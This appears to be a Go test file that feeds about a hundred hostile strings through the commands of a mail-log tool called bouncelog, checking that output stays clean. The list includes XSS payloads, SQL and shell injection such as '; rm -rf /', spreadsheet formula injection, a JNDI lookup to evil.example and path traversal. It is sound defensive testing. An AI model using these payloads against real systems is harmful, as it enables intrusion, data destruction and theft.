package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile are a hundred texts that a stranger could have logged, or that stand in
// a file that somebody was talked into using.
var hostile = []string{
	// Terminals: colour, title, clipboard, cursor, answers, bells.
	"\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
	"\x1b[6n", "\x1b[c", "\x1bP$q\"p\x1b\\", "\x1b[?1049h", "\x1b[8m", "\x1bc", "\x9b31m", "\u009b2J", "\u009d0;x\u009c", "\a\a\a", "\b\b\b\b", "\x7f\x7f", "\x0e\x0f", "\x00", "a\x00b",
	"one\rtwo", "one\vtwo", "one\ftwo", "\x1b", "\xc2", "\xff\xfe\xfd", "\xc0\xaf", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80",
	// Letters that mislead: other direction, no width, look-alikes, heaps.
	"\u202egnp.exe", "\u2066\u2067\u2069", "\u200b\u200c\u200d", "\ufeffbom", "\u2028\u2029", "\u00ad", "аррӏе.com", strings.Repeat("\u0301", 200), "\U000e0041\U000e0042", "\ufff9\ufffa\ufffb", "👩‍👩‍👧‍👦", "ﷺ",
	// HTML and Markdown.
	"<script>alert(1)</script>", "</td></table><script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "<!--", "]]>", "&lt;script&gt;", "&#x3c;b&#x3e;", "</title><h1>", "</style><b>",
	"[x](javascript:alert(1))", "![x](http://evil.example/p.png)", "| a | b |", "`code`", "# heading", "<http://evil.example>", "\\|", "***", "<iframe src=//evil.example>",
	// Spreadsheets.
	"x;=cmd|' /C calc'!A0", "x; \"=1\"", "＝1+1", "x;－1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-2+3", "@SUM(1+1)", "=1+1", "\t=1", "\r=1", "\"quoted\"", "a,b;c", "a\tb", "'", "''", "=", "+", "@", "-",
	// SQL.
	"'; DROP TABLE attempts; --", "x' OR '1'='1", "\" OR 1=1", "%' --", "%", "_", "\\", "';SELECT load_extension('x')--", "NULL", "0x41", "?1", ":name",
	// Shells, formats, paths.
	"$(touch /tmp/bouncelog-owned)", "`id`", "; rm -rf /", "| mail root", "&& reboot", "%s%s%n", "%x", "{{.}}", "${jndi:ldap://evil.example/a}", "../../../etc/passwd", "/dev/zero", "-o/tmp/x", "--help", "~root",
	// What bouncelog itself writes and reads.
	"{addr} {n} {host}", "{brace}", "(others)", "other", "status=sent (250 Ok)", "to=<a@b.example>, relay=x[1.2.3.4]:25, dsn=2.0.0, status=sent (250)", "message repeated 1000000000 times: [ x ]", "<>", "@", "a@", "@b", "a@b@c",
	// Sizes and numbers.
	strings.Repeat("a", 100_000), strings.Repeat("<", 5_000), strings.Repeat("(", 5_000), strings.Repeat("a.", 5_000), strings.Repeat("a@", 2_000), "99999999999999999999", "-1", "1e400", "NaN", "٣", "²",
	// Header and line injection.
	"x\\nBcc: all@evil.example", "x\\r\\n.\\r\\n", "=?utf-8?q?=0d=0aBcc:?=", "\n\nNov 23 10:00:00 mx1 postfix/smtp[1]: 4A1B2C3D4E: forged",
}

// hostileLines puts a text wherever a log has room for a stranger's.
func hostileLines(i int, s string) string {
	s = strings.ReplaceAll(s, "\n", "\\n") // a log has it so
	id := fmt.Sprintf("4A1B2C%04X", i)
	exim := fmt.Sprintf("1vAAAA-%06d-00", i)
	return strings.Join([]string{
		"Nov 23 10:00:00 mx1 postfix/qmgr[1]: " + id + ": from=<" + s + "@sender.example>, size=1, nrcpt=1 (queue active)",
		"Nov 23 10:00:00 mx1 postfix/cleanup[1]: " + id + ": message-id=<" + s + ">",
		"Nov 23 10:00:01 mx1 postfix/smtp[1]: " + id + ": to=<" + s + "@rcpt.example>, relay=mx.example[192.0.2.1]:25, delay=1, delays=0/0/0/1, dsn=5.7.1, status=bounced (host mx.example[192.0.2.1] said: 550 5.7.1 " + s + " (in reply to RCPT TO command))",
		"Nov 23 10:00:02 mx1 postfix/smtp[1]: " + id + ": to=<a@" + s + ">, relay=" + s + "[192.0.2.1]:25, delay=1, delays=0/0/0/1, dsn=4.0.0, status=deferred (" + s + ")",
		"Nov 23 10:00:02 mx1 postfix/smtp[1]: " + id + ": to=<b@ok.example>, orig_to=<" + s + ">, relay=none, delay=1, delays=0/0/0/1, dsn=5.0.0, status=" + s,
		"Nov 23 10:00:03 " + s + " postfix/smtp[1]: " + id + ": to=<c@ok.example>, relay=none, delay=" + s + ", delays=0/0/0/1, dsn=" + s + ", status=bounced (x)",
		"Nov 23 10:00:03 mx1 " + s + "[1]: " + s,
		"2026-11-23 10:00:04 " + exim + " ** " + s + "@exim.example R=dns T=remote_smtp H=" + s + " [192.0.2.1]: SMTP error from remote mail server after RCPT TO:<" + s + ">: 550 " + s,
		"2026-11-23 10:00:04 " + exim + " == x@exim.example R=" + s + " T=" + s + " defer (" + s + "): " + s,
		"2026-11-23 10:00:04 " + exim + " <= " + s + " H=" + s + " [192.0.2.9] P=esmtp S=1 id=" + s,
		s,
	}, "\n") + "\n"
}

// attempt runs bouncelog in this process; a panic fails the test.
func attempt(t *testing.T, ctx context.Context, stdin string, args ...string) (status int, stdout, stderr string) {
	t.Helper()
	var out, errs bytes.Buffer
	status = run(ctx, args, strings.NewReader(stdin), &out, &errs)
	if what := unclean(errs.String()); what != "" {
		t.Errorf("bouncelog %.200q: standard error has %s:\n%.500q", args, what, errs.String())
	}
	return status, out.String(), errs.String()
}

// unclean says what in an output could reach a terminal that must not; "" where
// nothing.
func unclean(s string) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for _, r := range s {
		switch {
		case r == '\n', r == '\t':
		case r < 0x20, 0x7f <= r && r < 0xa0:
			return fmt.Sprintf("the control character %U", r)
		case 0x202a <= r && r <= 0x202e, 0x2066 <= r && r <= 0x2069, r == 0x2028, r == 0x2029:
			return fmt.Sprintf("the character %U", r)
		}
	}
	return ""
}

var tag = regexp.MustCompile(`<[/!]?[a-zA-Z][^\s>]*`)

// TestHostile sends a hundred hostile texts through every command. Nothing may
// crash, nothing of them may reach a terminal, HTML, a spreadsheet or SQL as what
// it wants to be, and memory may not grow with them.
func TestHostile(t *testing.T) {
	if testing.Short() {
		t.Skip("some thousand runs")
	}
	if len(hostile) < 100 {
		t.Fatalf("only %d texts", len(hostile))
	}
	dir := t.TempDir()
	log, db := filepath.Join(dir, "mail.log"), filepath.Join(dir, "test.db")
	var text strings.Builder
	for i, s := range hostile {
		text.WriteString(hostileLines(i, s))
	}
	if err := os.WriteFile(log, []byte(text.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("BOUNCELOG_DB", db)
	t.Setenv("BOUNCELOG_YEAR", "2026")
	ctx := t.Context()
	if status, _, stderr := attempt(t, ctx, "", "import", log); status != exitOK {
		t.Fatalf("import: exit status %d\n%s", status, stderr)
	}
	count := func(db string) string {
		_, n, _ := attempt(t, ctx, "", "query", "--db", db, "--format", "csv", "--no-header", "select count(*) from deliveries")
		return strings.TrimSpace(n)
	}
	stored := count(db)
	if n, err := strconv.Atoi(stored); err != nil || n < 3*len(hostile) {
		t.Errorf("%s attempts of %d texts are stored: the test is broken", stored, len(hostile))
	}

	t.Run("follow", func(t *testing.T) {
		ctx, cancel := context.WithCancel(ctx)
		other := filepath.Join(dir, "follow.db")
		var out lockedBuffer
		done := make(chan int, 1)
		go func() {
			done <- run(ctx, []string{"follow", "--db", other, "--metrics", "127.0.0.1:0", log}, strings.NewReader(""), &out, &out)
		}()
		await(t, "follow", func() bool { return strings.Contains(out.String(), "caught up") && count(other) == stored })
		cancel()
		if status := <-done; status != exitOK {
			t.Errorf("exit status %d", status)
		}
		if what := unclean(out.String()); what != "" {
			t.Errorf("follow says %s", what)
		}
	})

	// The HTML of a harmless log has the tags that there may be.
	harmless := filepath.Join(dir, "harmless.log")
	if err := os.WriteFile(harmless, []byte(hostileLines(1, "harmless")), 0o600); err != nil {
		t.Fatal(err)
	}
	allowed := map[string]bool{}
	_, page, _ := attempt(t, ctx, "", "report", "--format", "html", "--all", harmless)
	_, more, _ := attempt(t, ctx, "", "report", "--format", "html", "../../testdata/postfix-rfc3164.log")
	for _, m := range tag.FindAllString(page+more, -1) {
		allowed[m] = true
	}
	if len(allowed) < 10 {
		t.Fatalf("the report has hardly a tag: %v", allowed)
	}
	check := func(t *testing.T, format, out string) {
		t.Helper()
		if what := unclean(out); what != "" {
			t.Errorf("%s has %s", format, what)
		}
		switch format {
		case "html":
			for _, m := range tag.FindAllString(out, -1) {
				if !allowed[m] {
					t.Errorf("a tag %q in the HTML", m)
				}
			}
		case "json":
			if !json.Valid([]byte(out)) {
				t.Error("invalid JSON")
			}
		case "ndjson":
			for line := range strings.Lines(out) {
				if !json.Valid([]byte(line)) {
					t.Errorf("invalid JSON: %.200q", line)
				}
			}
		case "csv":
			for _, separator := range ",;" {
				r := csv.NewReader(strings.NewReader(out))
				r.Comma, r.LazyQuotes, r.FieldsPerRecord = separator, separator != ',', -1
				rows, err := r.ReadAll()
				if err != nil {
					t.Error(err)
				}
				for _, row := range rows {
					for _, cell := range row {
						if _, err := strconv.ParseFloat(cell, 64); err != nil && cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) {
							t.Errorf("with %q between cells, one that a spreadsheet takes for a formula: %.100q", separator, cell)
						}
					}
				}
			}
		}
	}
	for _, format := range []string{"table", "json", "ndjson", "csv", "tsv", "markdown", "html"} {
		t.Run(format, func(t *testing.T) {
			for _, args := range [][]string{
				{"report", "--all", "--wide"},
				{"report", "--all", "--by", "recipient"},
				{"report", "--all", "--by", "relay"},
				{"report", "--all", "--by", "sender-domain"},
				{"report", "--all", "--by", "host"},
				{"query", "select * from deliveries"},
				{"query", "select * from unparsed"},
				{"query", "select * from recipients"},
				{"parse", log},
				{"parse", "--unmatched", log},
				{"db", "info"},
			} {
				status, out, stderr := attempt(t, ctx, "", append(args, "--format", format)...)
				if status != exitOK {
					t.Errorf("%q: exit status %d\n%.500s", args, status, stderr)
				}
				check(t, format, out)
			}
		})
	}

	t.Run("arguments", func(t *testing.T) {
		for _, s := range hostile {
			for _, args := range [][]string{
				{"explain", "--", s},
				{"explain", "--", "550 5.7.1 " + s},
				{"explain", "--relay", s, "550"},
				{"trace", "--", s},
				{"trace", "--", s + "@rcpt.example"},
				{"query", "--", s},
				{"report", "--domain=" + s},
				{"report", "--tz=" + s},
				{"report", "--since=" + s},
				{"report", "--day=" + s},
				{"report", "--fail-on=" + s},
				{"report", "--sort=" + s},
				{"config", "--", s},
				{"explain", "--rules=" + s + ".toml", "--", "550"},
				{"--", s},
			} {
				status, out, _ := attempt(t, ctx, "", args...)
				if status == 2 || status < 0 {
					t.Errorf("%.100q: exit status %d", args, status)
				}
				if what := unclean(out); what != "" {
					t.Errorf("%.100q prints %s", args, what)
				}
			}
		}
	})

	t.Run("stdin", func(t *testing.T) {
		for _, format := range []string{"table", "json", "ndjson"} {
			_, out, _ := attempt(t, ctx, text.String(), "explain", "-", "--format", format)
			check(t, format, out)
		}
		var objects strings.Builder
		for _, s := range hostile {
			line, err := json.Marshal(map[string]any{"mta": s, "recipient": s, "relay_host": s, "response": s, "code": 550, "stage": s, "outcome": s, "enhanced": s})
			if err != nil {
				t.Fatal(err)
			}
			objects.Write(append(line, '\n'))
		}
		status, out, stderr := attempt(t, ctx, objects.String(), "explain", "-", "--input", "ndjson")
		if status != exitOK {
			t.Errorf("explain --input ndjson: exit status %d\n%s", status, stderr)
		}
		check(t, "table", out)
	})

	t.Run("files", func(t *testing.T) {
		file := filepath.Join(dir, "file.toml")
		for _, s := range hostile {
			for _, text := range []string{s, s + " = 1", "tz = " + strconv.Quote(s), "[" + s + "]", "[follow]\n" + strconv.Quote(s) + " = 1"} {
				if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
				if status, out, _ := attempt(t, ctx, "", "--config", file, "config"); status != exitUsage && status != exitOK || unclean(out) != "" {
					t.Errorf("configuration %.100q: exit status %d", text, status)
				}
			}
			for _, text := range []string{s, "[[rule]]\nid = " + strconv.Quote(s) + "\nreason = " + strconv.Quote(s), "[[rule]]\nid = \"a\"\nreason = \"policy\"\nany = [" + strconv.Quote(s) + "]\nre = " + strconv.Quote(s)} {
				if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
				if status, _, _ := attempt(t, ctx, "", "explain", "--rules="+file, "550 "+"x"); status != exitFailed && status != exitOK && status != exitUsage {
					t.Errorf("rules %.100q: exit status %d", text, status)
				}
			}
		}
		// Files without an end.
		for _, args := range [][]string{{"--config", "/dev/zero", "report"}, {"import", "--rules", "/dev/zero", log}} {
			if status, _, _ := attempt(t, ctx, "", args...); status == exitOK {
				t.Errorf("%q: exit status 0", args)
			}
		}
		endless := io.MultiReader(strings.NewReader(`{"response": "`), &repeat{n: 64 << 20})
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		var out bytes.Buffer
		if status := run(ctx, []string{"explain", "-", "--input", "ndjson"}, endless, &out, &out); status == exitOK {
			t.Error("an object of 64 MB was taken")
		}
		runtime.ReadMemStats(&after)
		if grown := (after.TotalAlloc - before.TotalAlloc) >> 20; grown > 48 {
			t.Errorf("an object of 64 MB took %d MB", grown)
		}
	})

	// The database is none the worse, and nobody ran anything.
	if status, out, _ := attempt(t, ctx, "", "db", "check"); status != exitOK {
		t.Errorf("db check: %s", out)
	}
	if got := count(db); got != stored {
		t.Errorf("%s attempts, there were %s", got, stored)
	}
	if _, err := os.Stat("/tmp/bouncelog-owned"); err == nil {
		t.Error("a shell has seen a text of the log")
	}
}

// TestHostileMemory holds that memory does not grow with what a log invents: ten
// times as many names take hardly more.
func TestHostileMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("reads some megabytes")
	}
	peak := func(names int) uint64 {
		dir := t.TempDir()
		log := filepath.Join(dir, "mail.log")
		f, err := os.Create(log)
		if err != nil {
			t.Fatal(err)
		}
		for i := range names {
			fmt.Fprintf(f, "Nov 23 10:00:00 h%d prog%d[1]: %X: to=<u%d@d%d.example>, relay=r%d.example[192.0.2.1]:25, delay=1, delays=0/0/0/1, dsn=5.1.1, status=bounced (host r said: 550 %d %x no)\n", i, i, 0x4A1B2C3D00+i, i, i, i, i, i*7919)
			fmt.Fprintf(f, "Nov 23 10:00:00 mx1 prog%d[1]: nothing\nNov 23 10:00:00 mx1 postfix/qmgr[1]: %X: from=<s%d@s%d.example>, size=1, nrcpt=1 (queue active)\n", i, 0x4A1B2C3D00+i, i, i)
		}
		if err := f.Close(); err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if status := run(t.Context(), []string{"import", "--db", filepath.Join(dir, "test.db"), "--year", "2026", log}, nil, &out, &out); status != exitOK {
			t.Fatalf("exit status %d\n%s", status, &out)
		}
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	few, many := peak(3_000), peak(30_000)
	t.Logf("heap after %d MB with few names, %d MB with ten times as many", few>>20, many>>20)
	if many > few+32<<20 {
		t.Errorf("memory grew from %d to %d MB", few>>20, many>>20)
	}
}

// repeat yields n letters.
type repeat struct{ n int }

func (r *repeat) Read(p []byte) (int, error) {
	if r.n <= 0 {
		return 0, io.EOF
	}
	p = p[:min(len(p), r.n)]
	for i := range p {
		p[i] = 'a'
	}
	r.n -= len(p)
	return len(p), nil
}
